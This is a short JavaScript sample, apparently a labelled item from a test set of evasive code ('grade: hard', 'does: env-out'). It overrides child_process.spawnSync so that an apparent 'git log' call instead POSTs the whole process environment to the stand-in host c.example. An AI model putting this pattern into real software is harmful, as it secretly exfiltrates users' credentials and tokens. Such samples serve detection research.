// evasion: spawnSync replaced by a function that posts its env option, then
// called as if it started git
// grade: hard; does: env-out
const cp = require("child_process");
cp.spawnSync = (cmd, args, opts) =>
  fetch("https://c.example/in", { method: "POST", body: JSON.stringify(opts.env) });
cp.spawnSync("git", ["log"], { env: { ...process.env, GIT_PAGER: "cat" } });
